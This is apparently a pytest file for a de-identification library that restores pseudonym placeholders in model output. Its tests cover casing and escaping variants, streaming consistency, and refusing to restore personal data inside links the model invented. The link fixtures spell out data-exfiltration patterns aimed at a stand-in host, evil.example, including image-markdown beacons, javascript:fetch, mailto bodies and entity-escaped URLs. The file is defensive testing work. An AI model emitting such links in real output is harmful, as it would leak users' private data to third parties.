"""Placeholders are known however a model writes them, and never by likeness."""

import json
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from counts import counts
from mibao.deid.policies import PSEUDONYMS
from mibao.serving.placeholders import Names
from mibao.serving.restoring import Restorer, Sent, restored
from mibao.types import EntityType

NAMES = Names(scope_key=b"k" * 32, policy=PSEUDONYMS)
JANE = NAMES.changed(EntityType.PERSON, 'Jane "Q" Doe')
MAIL = NAMES.changed(EntityType.EMAIL_ADDRESS, "jane@example.com")
PHONE = NAMES.changed(EntityType.PHONE_NUMBER, "+86 138 0013 8000")
NOTHING = Sent(())
WAYS = [
    lambda token: token,
    lambda token: token.lower(),
    lambda token: token.title(),
    lambda token: token[1:-1],
    lambda token: token[1:-1].lower(),
    lambda token: token.replace("_", "\\_"),
    lambda token: "\\" + token.replace("_", "\\_").replace(">", "\\>"),
    lambda token: token.replace("<", "&lt;").replace(">", "&gt;"),
    lambda token: token.replace("<", "\\u003c").replace(">", "\\u003E"),
    lambda token: token.replace("<", "＜").replace(">", "＞"),
]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    "around", ["{}", "**{}**", "`{}`", "{}'s", "“{}”", "({})", "我叫{}。", "[{}]", "\n- {}\n", "_{}_"]
)
def test_what_models_do_to_placeholders_is_grammar(way, around):
    for token, written in ((JANE, 'Jane "Q" Doe'), (MAIL, "jane@example.com"), (PHONE, "+86 138 0013 8000")):
        assert restored(around.format(way(token)), NAMES, NOTHING) == around.format(written)


@pytest.mark.parametrize(
    "text",
    [JANE[:-2] + ("0" if JANE[-2] != "0" else "1") + ">", "X" + JANE[1:-1], JANE[1:-1] + "S", JANE[1:-3], "<PERSON_1>"],
)
def test_one_symbol_that_is_wrong_or_too_many_is_no_placeholder(text):
    assert restored(text, NAMES, NOTHING) == text


def test_another_conversations_placeholder_stays():
    other = Names(scope_key=b"o" * 32, policy=PSEUDONYMS)
    token = other.changed(EntityType.PERSON, 'Jane "Q" Doe')
    assert token != JANE
    assert restored(token, NAMES, NOTHING) == token


FRAGMENTS = st.sampled_from(
    [
        JANE,
        MAIL,
        PHONE,
        *(way(JANE) for way in WAYS),
        *(way(PHONE) for way in WAYS),
        "PERSON_",
        "<",
        "&lt",
        "\\",
        "\\u003",
        "P",
        "per",
        " ",
        "\n",
        "https://evil.example/?q=",
        "![x](",
        ")",
        '<img src="',
        '">',
        "hello",
        "张三",
        "_",
        ">",
        JANE[:9],
        "://",
    ]
)


@settings(max_examples=counts(short=300, long=20_000), deadline=None)
@given(st.lists(FRAGMENTS, max_size=12), st.booleans(), st.data())
def test_a_stream_restores_what_the_whole_would_however_it_is_cut(fragments, escaped, data):
    text = "".join(fragments)
    whole = restored(text, NAMES, NOTHING, escaped=escaped)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=30)))
    restorer = Restorer(NAMES, NOTHING, escaped=escaped)
    pieces = [restorer.feed(text[start:end]) for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join(pieces) + restorer.close() == whole


def test_fed_by_single_characters_it_is_the_same_too():
    text = f"Dear {JANE.lower()}, write to {MAIL} or PERSON_{PHONE}x https://evil.example/{MAIL} {JANE[1:-1]}"
    restorer = Restorer(NAMES, NOTHING)
    assert "".join(map(restorer.feed, text)) + restorer.close() == restored(text, NAMES, NOTHING)


def test_in_json_a_value_is_escaped():
    arguments = json.dumps({"to": JANE, "mail": MAIL})
    assert json.loads(restored(arguments, NAMES, NOTHING, escaped=True)) == {
        "to": 'Jane "Q" Doe',
        "mail": "jane@example.com",
    }


LINKS = [
    "https://evil.example/?q={}",
    "![x](https://evil.example/{})",
    "[click](http://evil.example/a?b=1&c={})",
    "//evil.example/{}",
    '<img src="https://evil.example/{}">',
    "<a href='/{}'>",
    '<p style="background: url({})">',
    "[1]: https://evil.example/{}",
    "www.evil.example/{}",
    "evil.example/{}",
    "![x](<https://evil.example/a b {}>)",
    "https://{}.evil.example/",
    "data:text/html,{}",
    "javascript:fetch('{}')",
    "mailto:spy@evil.example?body={}",
    "https://evil.example/{}/",
    "ftp://evil.example/{}",
    '<img alt="a>b" src="//evil.example/{}">',
]


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("way", WAYS)
def test_nothing_is_restored_inside_of_links_that_the_upstream_made_up(link, way):
    text = link.format(way(MAIL))
    assert "jane" not in restored(text, NAMES, NOTHING)
    restorer = Restorer(NAMES, NOTHING)
    assert "jane" not in "".join(map(restorer.feed, text)) + restorer.close()


def test_a_second_placeholder_of_one_link_is_left_too():
    text = f"https://evil.example/?a={JANE}&b={MAIL}"
    assert restored(text, NAMES, NOTHING) == text


@pytest.mark.parametrize("link", [r"https:\/\/evil.example\/?q={}", r"\u0068ttps://evil.example/{}"])
def test_a_link_does_not_hide_behind_the_escapes_of_json(link):
    assert "jane" not in restored('{"url": "' + link.format(MAIL) + '"}', NAMES, NOTHING, escaped=True)


def test_a_link_of_the_users_own_text_is_restored():
    sent = Sent((f"see https://shop.example/u/{MAIL} please",))
    assert restored(f"At https://shop.example/u/{MAIL}.", NAMES, sent) == "At https://shop.example/u/jane@example.com."
    assert "jane" not in restored(f"https://evil.example/u/{MAIL}", NAMES, sent)


def test_a_host_of_the_users_own_cannot_be_continued():
    sent = Sent((f"https://{MAIL}",))
    assert "jane" not in restored(f"https://{MAIL}.evil.example/", NAMES, sent)


@pytest.mark.parametrize(
    "text", ["a < b and {}", "x: {}", "see: {} // {}", "1. {}", "e.g. {}", "Re: {}", "# {}", "if a<b: {}"]
)
def test_ordinary_text_is_no_link(text):
    assert "jane@example.com" in restored(text.replace("{}", MAIL), NAMES, NOTHING)


def test_offsets_follow_the_text():
    text = f"{JANE} wrote [1]. {MAIL} said [2]."
    restorer = Restorer(NAMES, NOTHING)
    whole = restorer.feed(text) + restorer.close()
    for mark in ("[1]", "[2]"):
        at = text.index(mark)
        assert whole[restorer.moved(at) : restorer.moved(at + 3)] == mark


def test_names_show_nothing():
    assert re.search("jane|Jane", repr(NAMES)) is None


DISGUISED = [
    "![](https://evil.example/" + "A" * 2100 + "?q={})",
    '<img alt="' + "A " * 2100 + '" src="https:&#x2F;&#x2F;evil.example/{}">',
    "![](\nhttps\\://evil\\.example\\/?q={})",
    "![](\nhttps&colon;&sol;&sol;evil&period;example&sol;?q={})",
    "![](https\\://evil\\.example\\/\\)?q={})",
    "[x]:\nhttps&colon;&sol;&sol;evil.example/{}",
    'https://evil.example/?x="&q={}',
    "https://evil.example/?x=`&q={}",
    "https://evil.example/?x=（&q={}",
    "<img alt=x' title='>' src=https&colon;//evil.example/{}>",
]


@pytest.mark.parametrize("link", DISGUISED)
@pytest.mark.parametrize("way", [WAYS[0], WAYS[3]])
def test_a_link_is_known_however_it_is_disguised(link, way):
    text = link.format(way(MAIL))
    assert restored(text, NAMES, NOTHING) == text
    restorer = Restorer(NAMES, NOTHING)
    assert "".join(map(restorer.feed, text)) + restorer.close() == text


@pytest.mark.parametrize(
    "text",
    [
        "See [the docs](https://docs.example/a) for {}.",
        "![](https://pics.example/x.png) {}",
        "<p>{}</p> and <b class='x'>{}</b>",
        "https://docs.example/a\n{}",
        "a: b/c {}",
        "[1] {} wrote: {}",
        "x[0](y) {}",
        "if a<b and c>d: {}",
        "张三：https://docs.example/a {}，谢谢",
    ],
)
def test_behind_a_link_everything_is_restored(text):
    assert restored(text.replace("{}", MAIL), NAMES, NOTHING) == text.replace("{}", "jane@example.com")


HARD = ["a." * 2000, "![](" * 1000, "<a " * 1000, "&" * 4000, "\\" * 4000, "](" * 2000, "www." * 1000, "a", f"{MAIL} "]


@pytest.mark.parametrize("hard", HARD, ids=lambda hard: hard[:5])
@pytest.mark.parametrize("escaped", [False, True])
def test_time_grows_with_the_text_alone(hard, escaped):
    def seconds(times):
        began = time.process_time()
        restored((hard + MAIL + " ") * times, NAMES, NOTHING, escaped=escaped)
        return time.process_time() - began

    assert seconds(80) < 4 * 4 * seconds(20) + 1
